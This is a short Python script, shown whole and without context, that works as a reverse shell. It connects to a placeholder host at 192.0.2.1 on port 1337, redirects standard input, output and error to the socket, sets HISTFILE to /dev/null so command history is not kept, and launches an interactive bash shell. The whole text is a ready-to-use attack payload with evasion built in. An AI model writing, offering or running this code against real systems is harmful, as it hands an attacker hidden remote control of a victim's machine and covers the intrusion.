import os, pty, socket
host, port = "192.0.2.1", 1337
sock = socket.create_connection((host, port), timeout=1)
[os.dup2(sock.fileno(), fd) for fd in (0, 1, 2)]
os.putenv("HISTFILE", "/dev/null")
pty.spawn(["/bin/bash", "-i"])
sock.close()
